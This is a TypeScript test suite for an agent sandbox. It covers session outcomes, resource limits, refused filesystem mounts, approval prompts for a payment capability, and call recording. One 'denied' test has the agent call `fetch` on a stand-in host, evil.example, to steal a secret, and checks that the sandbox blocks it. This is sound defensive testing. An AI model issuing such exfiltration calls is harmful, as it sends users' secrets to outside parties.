import { mkdirSync, readFileSync, symlinkSync } from "node:fs";
import { dirname, join } from "node:path";
import { describe, expect, it } from "vitest";
import type { ApprovalRequest, ReservedPaths } from "../../src/session/contract.ts";
import { reservePaths } from "../../src/session/reserved.ts";
import { makeWorld } from "./world.ts";

/** Kills the guest processes that this process has started. */
function killGuests(): void {
  for (const pid of readFileSync(`/proc/self/task/${process.pid}/children`, "utf8").trim().split(" ")) {
    if (readFileSync(`/proc/${pid}/cmdline`, "utf8").includes("guest.cjs")) process.kill(Number(pid), "SIGKILL");
  }
}

const DESK = `capabilities:
  desk:
    use: module
    from: ./desk.ts
    allow: [look, pay, fail, slow, echo]
    ask: [{ call: pay, timeout: 1h }]
`;

const DESK_MODULE = `import { defineCapability, defineModule } from "agent-enclosure";
export default defineModule(({ signal }) => [
  defineCapability({ name: "look", effect: "read", run: () => ({ seen: true }) }),
  defineCapability({ name: "echo", effect: "read", run: (value) => value }),
  defineCapability({ name: "pay", effect: "write", run: ({ cents }: { cents: number }) => ({ paid: cents }) }),
  defineCapability({ name: "fail", effect: "write", run: () => { throw new Error("secret host path /srv/desk"); } }),
  defineCapability({ name: "slow", effect: "read", run: (_, context) => new Promise((resolve, reject) => context.signal.addEventListener("abort", () => reject(new Error("stopped")))) }),
]);
`;

describe("runSession: how a session ends", () => {
  it("completed: the agent's output, its input, notes and lines are on the record", async () => {
    const world = makeWorld();
    const ran = await world.run(
      `import { note } from "enclosure:caps";
       export default async function main(input) { note("because"); console.warn("careful"); return { got: input.n }; }`,
      { input: { n: 7 } },
    );
    expect(ran.result).toMatchObject({ status: "completed", exit: 0, output: { got: 7 } });
    expect(ran.records.map(({ body }) => body.type)).toEqual([
      "session.opened",
      "session.input_received",
      "session.noted",
      "session.logged",
      "session.output_given",
      "session.closed",
    ]);
    expect(ran.read(ran.bodies("session.noted")[0]?.data.note ?? null)).toBe("because");
    expect(ran.bodies("session.noted")[0]?.evidence).toBe("agent_claimed");
    expect(ran.records.map(({ body }) => body.session?.n)).toEqual([0, 1, 2, 3, 4, 5]);
  });

  it("failed: the error names the agent's own source line", async () => {
    const world = makeWorld();
    const { result } = await world.run(
      `export default function main(): never {\n  throw new RangeError("too far");\n}\n`,
    );
    expect(result).toMatchObject({
      status: "failed",
      exit: 1,
      error: { code: "AGENT_THREW", message: "RangeError: too far" },
    });
    expect(result.error?.stack).toContain("agent.ts:2:9");
  });

  it("denied: an uncaught refusal, with the manifest's line to add", async () => {
    const world = makeWorld(`capabilities: { web: { use: http, allow: ["GET https://api.example.com/v1/**"] } }\n`);
    const { result, bodies } = await world.run(`await fetch("https://evil.example/steal?q=secret");`);
    expect(result).toMatchObject({ status: "denied", exit: 3, error: { code: "RULE_FAILED" } });
    expect(result.error?.message).toContain("evil.example");
    const [denied] = bodies("call.denied");
    expect(denied?.data).toMatchObject({ capability: "web", target: { name: "(unlisted)" }, code: "RULE_FAILED" });
    expect(JSON.stringify(denied)).not.toContain("evil.example");
  });

  it("stalled: said at once, not after the wall limit", async () => {
    const world = makeWorld();
    const { result } = await world.run(`await new Promise(() => {});`);
    expect(result).toMatchObject({ status: "stalled", exit: 1, error: { code: "AGENT_STALLED" } });
  });

  it.each([
    ["cpu", "limits: { cpu: 300ms }", "for (;;) {}", "cpu"],
    [
      "cpu, in a turn of its own",
      "limits: { cpu: 300ms }",
      "await new Promise((r) => setTimeout(r, 1)); for (;;) {}",
      "cpu",
    ],
    ["wall", "limits: { wall: 300ms }", "await new Promise((r) => setTimeout(r, 60000));", "wall"],
    [
      "timers",
      "limits: { timers: 3 }",
      "for (let i = 0; i < 9; i++) setTimeout(() => {}, 1000); await new Promise(() => {});",
      "timers",
    ],
    ["log", "limits: { log: 1KiB }", "for (let i = 0; i < 99; i++) console.log('x'.repeat(100));", "log"],
  ])("limit: %s", async (_, limits, agent, limit) => {
    const { result, bodies } = await makeWorld(`${limits}\n`).run(agent);
    expect(result).toMatchObject({ status: "limit", exit: 4, limit: { name: limit }, error: { code: "LIMIT_STRUCK" } });
    expect(bodies("limit.struck")[0]?.data.limit).toBe(limit);
  });

  it("limit: calls, and no call beyond it is performed", async () => {
    const world = makeWorld(`limits: { calls: 3 }\n${DESK}`);
    world.write("desk.ts", DESK_MODULE);
    const agent = `import { desk } from "enclosure:caps"; for (;;) await desk.look({});`;
    const { result, bodies } = await world.run(agent);
    expect(result).toMatchObject({ status: "limit", limit: { name: "calls", max: 3 }, calls: { admitted: 3 } });
    expect(bodies("call.intended")).toHaveLength(3);
  });

  it("interrupted: by a signal, with the calls that ran then recorded", async () => {
    const world = makeWorld(DESK);
    world.write("desk.ts", DESK_MODULE);
    const stop = new AbortController();
    const { result, bodies } = await world.run(`import { desk } from "enclosure:caps"; await desk.slow({});`, {
      signal: stop.signal,
      onEvent: (event) => (event.type === "call" ? stop.abort() : undefined),
    });
    expect(result).toMatchObject({ status: "interrupted", exit: 1, error: { code: "SESSION_INTERRUPTED" } });
    expect(bodies("call.intended")).toHaveLength(1);
    expect(bodies("call.settled")[0]?.data).toMatchObject({ delivered: "late" });
  });

  it("has no output where the agent gave none", async () => {
    const { result, bodies } = await makeWorld().run(`export default () => {};`);
    expect(result).toMatchObject({ status: "completed", exit: 0 });
    expect(result).not.toHaveProperty("output");
    expect(bodies("session.output_given")).toHaveLength(0);
    const asked = await makeWorld(`agent: { output: { type: object } }\n`).run(`export default () => {};`);
    expect(asked.result).toMatchObject({ status: "failed", error: { code: "OUTPUT_INVALID" } });
  });

  it("crashed: a guest that is killed from elsewhere, and a call that ran then is recorded", async () => {
    const world = makeWorld(DESK);
    world.write("desk.ts", DESK_MODULE);
    const { result, bodies } = await world.run(`import { desk } from "enclosure:caps"; await desk.slow({});`, {
      onEvent: (event) => (event.type === "call" ? killGuests() : undefined),
    });
    expect(result).toMatchObject({ status: "crashed", exit: 1, error: { code: "GUEST_CRASHED" } });
    expect(bodies("call.settled")[0]?.data).toMatchObject({ delivered: "late" });
  });

  it("refuses an output that does not fit, and gives none", async () => {
    const world = makeWorld(
      `agent: { output: { type: object, required: [ok], properties: { ok: { type: boolean } } } }\n`,
    );
    const { result, bodies } = await world.run(`export default () => ({ ok: "yes" });`);
    expect(result).toMatchObject({ status: "failed", exit: 1, error: { code: "OUTPUT_INVALID" } });
    expect(result.output).toBeUndefined();
    expect(bodies("session.output_given")).toHaveLength(0);
  });
});

describe("what is refused before anything runs", () => {
  it.each([
    ["an input that does not fit", { input: { n: "x" } }, "INPUT_INVALID"],
    ["a missing input", {}, "INPUT_INVALID"],
    ["an agent that is not there", { input: { n: 1 }, agent: "nowhere.ts" }, "AGENT_MISSING"],
  ])("%s", async (_, options, code) => {
    const world = makeWorld(
      `agent: { input: { type: object, required: [n], properties: { n: { type: integer } } } }\n`,
    );
    await expect(world.run("export default () => 1;", options)).rejects.toMatchObject({ code, exit: 2 });
  });

  it.each(["..", "../store", "../home", ".", "./src/../."])(
    "a mount that reaches what keeps or decides: %s",
    async (path) => {
      const world = makeWorld(
        `capabilities: { files: { use: fs, mounts: { /x: { path: "${path}", access: rw } } } }\n`,
      );
      await expect(world.run("export default () => 1;")).rejects.toMatchObject({ code: "FS_MOUNT_OVERLAPS" });
    },
  );

  const files = (path: string): string => `files: { use: fs, mounts: { /x: { path: ${path}, access: rw } } }`;

  it.each(["lib", "src/lib", "node_modules/pkg", "host/node_modules"])(
    "a mount that holds what the agent or a module imports, or would import: %s",
    async (path) => {
      const world = makeWorld(`${DESK.replace("./desk.ts", "./host/desk.ts")}  ${files(path)}\n`);
      world.write("host/desk.ts", `import "../lib/greet.ts"; ${DESK_MODULE}`);
      world.write("lib/greet.ts", 'import "pkg";');
      world.write("node_modules/pkg/index.js", "");
      world.write("host/node_modules/readme", "");
      world.write("src/lib/own.ts", "");
      await expect(world.run('import "./src/lib/own.ts"; export default 1;')).rejects.toMatchObject({
        code: "FS_MOUNT_OVERLAPS",
      });
    },
  );

  it.each([
    ["rw", "ro", "", ""],
    ["ro", "rw", "", ""],
    ["ro", "ro", '"/x/private/**"', ""],
    ["ro", "ro", "", '"/y/**"'],
  ])("two mounts of one folder, past a rule or a quota: %s, %s, %s, %s", async (one, other, denied, asked) => {
    const world = makeWorld(`capabilities:
  files: { use: fs, mounts: { /x: { path: data, access: ${one} } }, deny: [${denied}] }
  notes: { use: fs, mounts: { /y: { path: data/private, access: ${other} } }, ask: [${asked}] }
`);
    world.write("data/private/note.txt", "");
    await expect(world.run("export default () => 1;")).rejects.toMatchObject({ code: "FS_MOUNT_OVERLAPS" });
  });

  it("a mount that holds the file of a secret, which the agent could change", async () => {
    const world = makeWorld(`secrets: { key: { from: "file:secrets/key", hosts: ["a.example"] } }
capabilities: { files: { use: fs, mounts: { /x: { path: secrets, access: rw } } } }
`);
    world.write("secrets/key", "hunter2-hunter2");
    await expect(world.run("export default () => 1;")).rejects.toMatchObject({
      code: "FS_MOUNT_OVERLAPS",
      message: "the mount /x of files reaches the secret key",
    });
  });

  it("a mount for writing that holds what is reserved, and no mount for reading", async () => {
    const mounting = (access: string): ReturnType<typeof makeWorld> => {
      const world = makeWorld(
        `capabilities: { files: { use: fs, mounts: { /x: { path: data, access: ${access} } } } }\n`,
      );
      world.write("data/deep/note.txt", "");
      return world;
    };
    const reservedIn = ({ folder }: { readonly folder: string }): ReservedPaths =>
      reservePaths([["the note", join(folder, "data/deep/note.txt")]]);
    const written = mounting("rw");
    await expect(written.run("export default () => 1;", { reserved: reservedIn(written) })).rejects.toMatchObject({
      code: "FS_MOUNT_OVERLAPS",
      message: "the mount /x of files could write the note",
      mend: expect.stringContaining("Move that file") as string,
    });
    const read = mounting("ro");
    const { result } = await read.run("export default () => 1;", { reserved: reservedIn(read) });
    expect(result.status).toBe("completed");
  });

  it("a mount into which a link leads from where the store is to be made", async () => {
    const world = makeWorld(`capabilities: { files: { use: fs, mounts: { /x: { path: data, access: rw } } } }\n`);
    world.write("data/note.txt", "");
    mkdirSync(dirname(world.store));
    symlinkSync(join(world.folder, "data", "audit.db"), world.store);
    await expect(world.run("export default () => 1;")).rejects.toMatchObject({ code: "FS_MOUNT_OVERLAPS" });
  });
});

describe("ask", () => {
  const agent = `import { desk } from "enclosure:caps";
    export default async () => { try { return await desk.pay({ cents: 500 }); } catch (e) { return { code: e.code }; } };`;

  it("asks the person, shows the exact argument, and records who granted it", async () => {
    const world = makeWorld(DESK);
    world.write("desk.ts", DESK_MODULE);
    const asked: ApprovalRequest[] = [];
    const approvals = {
      name: "tty",
      ask: (request: ApprovalRequest) => {
        asked.push(request);
        return Promise.resolve({ granted: true, reason: "small" });
      },
    } as const;
    const { result, bodies, read } = await world.run(agent, { approvals });
    expect(result.output).toEqual({ paid: 500 });
    expect(asked[0]).toMatchObject({ capability: "desk", function: "pay", argumentsText: '{"cents":500}' });
    const [granted] = bodies("approval.granted");
    expect(granted?.data).toMatchObject({ how: "os_user", by: { kind: "os_user", evidence: "observed" } });
    expect(read(granted?.data.reason ?? null)).toBe("small");
    expect(bodies("call.intended")[0]?.data.approval).toBe(granted?.session?.n);
  });

  it("refuses where nobody can be asked", async () => {
    const world = makeWorld(DESK);
    world.write("desk.ts", DESK_MODULE);
    const { result, bodies } = await world.run(agent);
    expect(result.output).toEqual({ code: "APPROVAL_UNAVAILABLE" });
    expect(bodies("call.intended")).toHaveLength(0);
  });
});

describe("calls", () => {
  it("keeps a host module's error on the host", async () => {
    const world = makeWorld(DESK);
    world.write("desk.ts", DESK_MODULE);
    const { result, bodies, read } = await world.run(`import { desk } from "enclosure:caps";
      export default async () => { try { await desk.fail({}); } catch (e) { return String(e) + e.stack + JSON.stringify(e); } };`);
    expect(result.output).not.toContain("/srv/desk");
    expect(read(bodies("call.settled")[0]?.data.error ?? null)).toContain("/srv/desk");
    expect(bodies("call.settled")[0]).toMatchObject({ evidence: "host_claimed", data: { effectState: "failed" } });
  });

  it("records a call under a rule as long as a manifest may write it", async () => {
    const url = `http://127.0.0.1:9/${"a".repeat(2000)}`;
    const world = makeWorld(`capabilities: { web: { use: http, allow: ["GET ${url}"] } }\n`);
    const { result, bodies } = await world.run(
      `export default () => fetch(${JSON.stringify(url)}).catch((e) => e.code);`,
    );
    expect(result).toMatchObject({ status: "completed", calls: { admitted: 1, failed: 1 } });
    expect(bodies("call.intended")[0]?.data.target).toEqual({ kind: "http", name: `GET ${url}` });
  });

  it("passes every kind of value that crosses, both ways, as it is", async () => {
    const world = makeWorld(DESK);
    world.write("desk.ts", DESK_MODULE);
    const { result } = await world.run(`import { desk } from "enclosure:caps";
      export default async () => {
        const value = { n: [NaN, -0, Infinity], big: 2n ** 70n, at: new Date(5), bytes: new Uint8Array([1, 255]), odd: { $type: "app.note" }, none: [undefined] };
        const back = await desk.echo(value);
        return [Object.is(back.n[1], -0), back.big === value.big, back.at.getTime(), [...back.bytes], back.odd, back.none[0] === undefined];
      };`);
    expect(result.output).toEqual([true, true, 5, [1, 255], { $type: "object", value: { $type: "app.note" } }, true]);
  });

  it("lets calls that the agent did not wait for end, and records them", async () => {
    const world = makeWorld(DESK);
    world.write("desk.ts", DESK_MODULE);
    const { result, bodies } = await world.run(
      `import { desk } from "enclosure:caps"; void desk.look({}); export default 1;`,
    );
    expect(result).toMatchObject({ status: "completed", calls: { admitted: 1, failed: 0, unknown: 0 } });
    expect(bodies("call.settled")[0]?.data).toMatchObject({ effectState: "confirmed", delivered: "late" });
  });

  it("cancels a call by AbortController: the agent goes on at once, and the record says so", async () => {
    const world = makeWorld(DESK + `  web: { use: http, allow: ["GET https://api.example.com/**"] }\n`);
    world.write("desk.ts", DESK_MODULE);
    const { result } = await world.run(`const stop = new AbortController();
      const waiting = fetch("https://api.example.com/x", { signal: stop.signal });
      stop.abort();
      export default await waiting.catch((e) => e.name);`);
    expect(result.output).toBe("AbortError");
  });
});
